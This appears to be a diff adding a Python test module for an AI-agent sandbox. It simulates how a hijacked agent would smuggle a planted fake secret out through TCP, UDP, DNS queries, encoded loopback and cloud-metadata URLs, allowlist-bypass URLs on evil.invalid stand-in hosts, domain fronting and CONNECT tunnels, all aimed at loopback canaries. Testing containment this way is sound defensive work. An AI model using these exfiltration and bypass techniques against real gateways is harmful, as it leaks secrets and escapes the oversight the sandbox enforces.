@@ -1,0 +1,347 @@
+"""Network exfiltration: every way out a hijacked agent would try, against canaries on the
+host's loopback (never anything off the machine)."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+from ..context import BAIT_ALLOWED, BAIT_BOUND, DrillContext
+from ..model import Case, Evidence, Outcome
+
+Run = Callable[[DrillContext], Outcome]
+
+# Sends the planted secret to host:port over TCP; prints what happened. Argv: host port data.
+TCP_SEND = """
+import socket, sys
+host, port, data = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+try:
+    family = socket.AF_INET6 if ":" in host else socket.AF_INET
+    s = socket.socket(family, socket.SOCK_STREAM)
+    s.settimeout(3)
+    s.connect((host, port))
+    s.sendall(data.encode())
+    s.close()
+    print("connected")
+except OSError as e:
+    print("failed", e.errno, e.strerror)
+"""
+
+UDP_SEND = """
+import socket, sys
+host, port, data = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+try:
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    for _ in range(3):
+        s.sendto(data.encode(), (host, port))
+    print("sent")
+except OSError as e:
+    print("failed", e.errno, e.strerror)
+"""
+
+# A DNS query whose name carries the secret, straight to a "resolver" (the canary).
+DNS_SEND = """
+import socket, struct, sys
+host, port, secret = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+qname = b"".join(bytes([len(p)]) + p.encode() for p in [secret[:60], "exfil", "invalid"])
+packet = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + qname + b"\\0" + b"\\0\\1\\0\\1"
+try:
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(2)
+    s.sendto(packet, (host, port))
+    print("sent")
+except OSError as e:
+    print("failed", e.errno, e.strerror)
+"""
+
+# Whether the kernel has a route to an address, found with a UDP connect (sends nothing).
+ROUTE_CHECK = """
+import socket, sys
+try:
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.connect((sys.argv[1], 80))
+    print("route via", s.getsockname()[0])
+except OSError as e:
+    print("no route", e.errno, e.strerror)
+"""
+
+# One HTTP request through the proxy the sandbox was given (or directly, with none).
+HTTP_TRY = """
+import json, os, sys, urllib.error, urllib.request
+url = sys.argv[1]
+headers = json.loads(sys.argv[2]) if len(sys.argv) > 2 else {}
+proxy = os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy")
+# An agent steering traffic at loopback would not honour NO_PROXY either: make the gateway decide.
+for name in ("NO_PROXY", "no_proxy"):
+    os.environ.pop(name, None)
+opener = urllib.request.build_opener(
+    urllib.request.ProxyHandler({"http": proxy, "https": proxy} if proxy else {}))
+try:
+    with opener.open(urllib.request.Request(url, headers=headers), timeout=5) as r:
+        print("status", r.status, r.headers.get("X-Corral-Egress"))
+except urllib.error.HTTPError as e:
+    print("status", e.code, e.headers.get("X-Corral-Egress"))
+except Exception as e:
+    print("error", type(e).__name__, str(e)[:200])
+print("proxy", bool(proxy))
+"""
+
+# A hand-written request to the proxy, for what HTTP clients refuse to send.
+RAW_PROXY = """
+import os, socket, sys, urllib.parse
+proxy = os.environ.get("HTTP_PROXY") or os.environ.get("http_proxy")
+request = sys.argv[1].encode().decode("unicode_escape").encode()
+if proxy:
+    p = urllib.parse.urlsplit(proxy)
+    target = (p.hostname, p.port)
+else:
+    target = ("127.0.0.1", int(sys.argv[2]))
+try:
+    s = socket.create_connection(target, timeout=5)
+    s.sendall(request)
+    s.settimeout(5)
+    print("answer", s.recv(200).split(b"\\r\\n")[0].decode(errors="replace"))
+except OSError as e:
+    print("failed", e.errno, e.strerror)
+print("proxy", bool(proxy))
+"""
+
+PY = frozenset({"python3"})
+
+
+def _py(ctx: DrillContext, script: str, *args: str,
+        timeout: float = 30) -> tuple[str, list[Evidence]]:
+    result = ctx.run(["python3", "-c", script, *args], timeout=timeout)
+    return result.stdout + result.stderr, ctx.evidence(result)
+
+
+def _direct_tcp(host_of: str) -> Run:
+    def run(ctx: DrillContext) -> Outcome:
+        host = ctx.host_address if host_of == "host" else host_of
+        with ctx.watching() as watch:
+            out, evidence = _py(ctx, TCP_SEND, host or "", str(ctx.canary.tcp_port),
+                                ctx.fake_secret)
+        if "connected" in out and not watch.hits:
+            return Outcome("breached", f"a TCP connection to {host} succeeded: {out.strip()}",
+                           tuple(evidence))
+        return watch.outcome(f"no connection: {out.strip()}", evidence)
+    return run
+
+
+def _udp(ctx: DrillContext) -> Outcome:
+    with ctx.watching() as watch:
+        out, evidence = _py(ctx, UDP_SEND, "127.0.0.1", str(ctx.canary.udp_port), ctx.fake_secret)
+    return watch.outcome(f"nothing arrived: {out.strip()}", evidence)
+
+
+def _dns(ctx: DrillContext) -> Outcome:
+    with ctx.watching() as watch:
+        out, evidence = _py(ctx, DNS_SEND, "127.0.0.1", str(ctx.canary.udp_port), ctx.fake_secret)
+    return watch.outcome(f"no query arrived: {out.strip()}", evidence)
+
+
+def _route(address: str, what: str) -> Run:
+    def run(ctx: DrillContext) -> Outcome:
+        out, evidence = _py(ctx, ROUTE_CHECK, address)
+        if "route via" in out:
+            return Outcome("breached", f"{what} ({address}) is routable: {out.strip()}",
+                           tuple(evidence))
+        return Outcome("held", f"no route to {what}: {out.strip()}", tuple(evidence))
+    return run
+
+
+def _host_route(ctx: DrillContext) -> Outcome:
+    if not ctx.host_address:
+        return Outcome("skipped", "the host has no non-loopback IPv4 address to aim at")
+    return _route(ctx.host_address, "the host's own address")(ctx)
+
+
+def _icmp(ctx: DrillContext) -> Outcome:
+    if not ctx.host_address:
+        return Outcome("skipped", "the host has no non-loopback IPv4 address to aim at")
+    result = ctx.run(f"ping -c 1 -W 1 {ctx.host_address} 2>&1 || "
+                     "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM, "
+                     "socket.IPPROTO_ICMP)' 2>&1; echo rc=$?")
+    out = result.stdout + result.stderr
+    evidence = ctx.evidence(result)
+    if " 0% packet loss" in out or "1 received" in out:
+        return Outcome("breached", f"the host answered a ping: {out.strip()[:200]}",
+                       tuple(evidence))
+    return Outcome("held", f"no echo reply: {out.strip()[:200]}", tuple(evidence))
+
+
+def _through_gateway(url_template: str, *, headers: str = "{}") -> Run:
+    """Held when the canary saw nothing and (with a gateway) the gateway refused it."""
+    def run(ctx: DrillContext) -> Outcome:
+        url = ctx.fmt(url_template)
+        with ctx.watching() as watch:
+            result = ctx.run(["python3", "-c", HTTP_TRY, url, headers])
+        out = (result.stdout + result.stderr).strip()
+        evidence = ctx.evidence(result)
+        outcome = watch.outcome(f"refused: {out}", evidence)
+        if outcome.verdict != "held":
+            return outcome
+        if "status 2" in out:
+            return Outcome("breached", f"{url} answered: {out}", tuple(evidence))
+        if "proxy True" in out and not ctx.denials(result):
+            # Nothing got out, but the gateway should have said no in so many words.
+            return Outcome("error", f"no refusal was recorded for {url}: {out}",
+                           tuple(evidence))
+        return outcome
+    return run
+
+
+def _fronting(ctx: DrillContext) -> Outcome:
+    request = (f"GET http://{BAIT_ALLOWED}/ HTTP/1.1\\r\\nHost: 127.0.0.1:{ctx.canary.tcp_port}"
+               f"\\r\\nX-Leak: {ctx.fake_secret}\\r\\nConnection: close\\r\\n\\r\\n")
+    with ctx.watching() as watch:
+        result = ctx.run(["python3", "-c", RAW_PROXY, request, str(ctx.canary.tcp_port)])
+    out = (result.stdout + result.stderr).strip()
+    evidence = ctx.evidence(result)
+    outcome = watch.outcome(f"refused: {out}", evidence)
+    if outcome.verdict == "held" and " 200 " in out:
+        return Outcome("breached", f"the gateway forwarded a fronted request: {out}",
+                       tuple(evidence))
+    return outcome
+
+
+def _connect_literal(ctx: DrillContext) -> Outcome:
+    request = (f"CONNECT 127.0.0.1:{ctx.canary.tcp_port} HTTP/1.1\\r\\n"
+               f"Host: 127.0.0.1:{ctx.canary.tcp_port}\\r\\n\\r\\n")
+    with ctx.watching() as watch:
+        result = ctx.run(["python3", "-c", RAW_PROXY, request, str(ctx.canary.tcp_port)])
+    out = (result.stdout + result.stderr).strip()
+    evidence = ctx.evidence(result)
+    outcome = watch.outcome(f"refused: {out}", evidence)
+    if outcome.verdict == "held" and " 200 " in out:
+        return Outcome("breached", f"the gateway opened a tunnel to loopback: {out}",
+                       tuple(evidence))
+    return outcome
+
+
+def _secret_wrong_host(ctx: DrillContext) -> Outcome:
+    """The placeholder of a secret bound to one host, sent to another allowed host, must stay a
+    placeholder: the gateway only swaps it in on connections it intercepts for the bound host."""
+    assert ctx.host_secret_name and ctx.host_secret_value
+    result = ctx.run(
+        f'python3 -c "$SCRIPT" "https://{BAIT_ALLOWED}/?token=${ctx.host_secret_name}" ; '
+        f'python3 -c "$SCRIPT" "http://{BAIT_ALLOWED}/?token=${ctx.host_secret_name}" ; '
+        f'python3 -c "$SCRIPT" "http://{BAIT_BOUND}/?token=${ctx.host_secret_name}"',
+        envs={"SCRIPT": HTTP_TRY})
+    out = result.stdout + result.stderr
+    evidence = ctx.evidence(result)
+    leaked = ctx.leaked(out)
+    intercepted_wrong = [e for e in evidence if e.kind == "gateway" and BAIT_ALLOWED in e.detail
+                         and "mode=intercept" in e.detail]
+    bound_plain = [e for e in evidence if e.kind == "gateway" and BAIT_BOUND in e.detail
+                   and "mode=intercept" in e.detail]
+    if leaked or intercepted_wrong or bound_plain:
+        return Outcome("breached", "the secret's value could reach a host it is not bound to "
+                       f"(leaked in output: {bool(leaked)}, intercepted: "
+                       f"{len(intercepted_wrong) + len(bound_plain)})", tuple(evidence))
+    if not any(e.kind == "gateway" for e in evidence):
+        return Outcome("error", f"no gateway decision was recorded: {out.strip()[:200]}",
+                       tuple(evidence))
+    return Outcome("held", "the wrong host and plain HTTP only ever saw the placeholder "
+                   "(tunnelled, not intercepted)", tuple(evidence))
+
+
+def _resolver(ctx: DrillContext) -> Outcome:
+    result = ctx.run("grep -h '^nameserver' /etc/resolv.conf 2>/dev/null; "
+                     "ls /run/systemd/resolve /var/run/nscd 2>/dev/null; echo done")
+    out = result.stdout.strip()
+    lines = [line for line in out.splitlines() if line != "done"]
+    if lines:
+        return Outcome("breached", f"a resolver is configured or reachable: {lines[:3]}",
+                       tuple(ctx.evidence(result)))
+    return Outcome("held", "no nameserver and no resolver socket inside",
+                   tuple(ctx.evidence(result)))
+
+
+def _raw_socket(family: str) -> Run:
+    def run(ctx: DrillContext) -> Outcome:
+        script = ("import socket\n"
+                  f"try:\n    socket.socket({family})\n    print('opened')\n"
+                  "except OSError as e:\n    print('refused', e.errno, e.strerror)\n")
+        out, evidence = _py(ctx, script)
+        if "opened" in out:
+            return Outcome("breached", f"socket({family}) opened", tuple(evidence))
+        return Outcome("held", out.strip(), tuple(evidence))
+    return run
+
+
+CASES = [
+    Case("net.tcp-loopback", "network", "TCP to the host's 127.0.0.1 canary with the planted "
+         "secret", "no connection reaches the canary", _direct_tcp("127.0.0.1"), PY),
+    Case("net.tcp-ipv6-loopback", "network", "TCP to the host's [::1] canary",
+         "no connection reaches the canary", _direct_tcp("::1"), PY),
+    Case("net.tcp-host-address", "network", "route to the host's own network address",
+         "the kernel has no route there", _host_route, PY),
+    Case("net.route-internet", "network", "route to an Internet address (TEST-NET, nothing sent)",
+         "no route", _route("192.0.2.1", "the Internet"), PY),
+    Case("net.route-metadata", "network", "route to the cloud metadata service 169.254.169.254",
+         "no route", _route("169.254.169.254", "the metadata service"), PY),
+    Case("net.udp-loopback", "network", "UDP datagrams with the secret to the host's canary",
+         "no datagram arrives", _udp, PY),
+    Case("net.dns-exfil", "network", "a DNS query carrying the secret, sent to a resolver on the "
+         "host", "no query arrives", _dns, PY),
+    Case("net.resolver", "network", "find a DNS resolver to tunnel through",
+         "none is configured or reachable", _resolver),
+    Case("net.icmp", "network", "ping the host's own address (ICMP tunnels)",
+         "no echo reply", _icmp),
+    Case("net.raw-socket", "network", "open a raw IP socket (to forge packets)",
+         "socket() is refused", _raw_socket("socket.AF_INET, socket.SOCK_RAW, 6"), PY),
+    Case("net.packet-socket", "network", "open an AF_PACKET socket (to sniff or inject frames)",
+         "socket() is refused", _raw_socket("socket.AF_PACKET, socket.SOCK_RAW"), PY),
+    Case("net.netlink", "network", "open a netlink socket (to add routes or interfaces)",
+         "socket() is refused", _raw_socket("socket.AF_NETLINK, socket.SOCK_RAW, 0"), PY),
+    Case("net.proxy-bypass", "network", "ignore the proxy and connect straight to localhost",
+         "no connection reaches the canary", _direct_tcp("localhost"), PY),
+    Case("net.ip-literal", "network", "http://127.0.0.1:PORT through the gateway",
+         "the gateway refuses; the canary sees nothing",
+         _through_gateway("http://127.0.0.1:{port}/?k={secret}"), PY),
+    Case("net.ip-decimal", "network", "http://2130706433:PORT (127.0.0.1 as one number)",
+         "the gateway refuses; the canary sees nothing",
+         _through_gateway("http://2130706433:{port}/?k={secret}"), PY),
+    Case("net.ip-hex", "network", "http://0x7f000001:PORT (127.0.0.1 in hex)",
+         "the gateway refuses; the canary sees nothing",
+         _through_gateway("http://0x7f000001:{port}/?k={secret}"), PY),
+    Case("net.ip-octal", "network", "http://0177.0.0.1:PORT (127.0.0.1 in octal)",
+         "the gateway refuses; the canary sees nothing",
+         _through_gateway("http://0177.0.0.1:{port}/?k={secret}"), PY),
+    Case("net.ip-short", "network", "http://127.1:PORT (the short form)",
+         "the gateway refuses; the canary sees nothing",
+         _through_gateway("http://127.1:{port}/?k={secret}"), PY),
+    Case("net.ipv6-loopback", "network", "http://[::1]:PORT through the gateway",
+         "the gateway refuses; the canary sees nothing",
+         _through_gateway("http://[::1]:{port}/?k={secret}"), PY),
+    Case("net.ipv6-mapped", "network", "http://[::ffff:127.0.0.1]:PORT (IPv4-mapped IPv6)",
+         "the gateway refuses; the canary sees nothing",
+         _through_gateway("http://[::ffff:127.0.0.1]:{port}/?k={secret}"), PY),
+    Case("net.metadata", "network", "http://169.254.169.254/latest/meta-data/ through the gateway",
+         "the gateway refuses without connecting",
+         _through_gateway("http://169.254.169.254/latest/meta-data/"), PY),
+    Case("net.metadata-name", "network", "http://metadata.google.internal/ (a metadata name)",
+         "the gateway refuses",
+         _through_gateway("http://metadata.google.internal/computeMetadata/v1/"), PY),
+    Case("net.private-name", "network", "an allowed name that resolves to loopback "
+         "(http://localhost:PORT, allowed by the drill's bait rules)",
+         "the gateway refuses by address; the canary sees nothing",
+         _through_gateway("http://localhost:{port}/?k={secret}"), PY),
+    Case("net.allowlist-suffix", "network", f"http://{BAIT_ALLOWED}.evil.invalid "
+         "(the allowed name as a prefix)", "refused by rule",
+         _through_gateway(f"http://{BAIT_ALLOWED}.evil.invalid/?k={{secret}}"), PY),
+    Case("net.allowlist-prefix", "network", f"http://evil{BAIT_ALLOWED} (the allowed name as a "
+         "suffix without a dot)", "refused by rule",
+         _through_gateway(f"http://evil{BAIT_ALLOWED}/?k={{secret}}"), PY),
+    Case("net.allowlist-userinfo", "network", f"http://{BAIT_ALLOWED}@127.0.0.1:PORT "
+         "(the allowed name as userinfo)", "refused; the canary sees nothing",
+         _through_gateway(f"http://{BAIT_ALLOWED}@127.0.0.1:{{port}}/?k={{secret}}"), PY),
+    Case("net.domain-fronting", "network", "request an allowed host but send Host: the canary",
+         "the gateway refuses the mismatch; the canary sees nothing", _fronting, PY),
+    Case("net.connect-literal", "network", "CONNECT 127.0.0.1:PORT (a tunnel to loopback)",
+         "the gateway refuses; the canary sees nothing", _connect_literal, PY),
+    Case("net.secret-wrong-host", "network", "send a secret's placeholder to an allowed host it "
+         "is not bound to, and to its bound host over plain HTTP",
+         "only the placeholder leaves; the gateway intercepts nothing but the bound host over "
+         "TLS", _secret_wrong_host, PY | {"admin"}),
+]
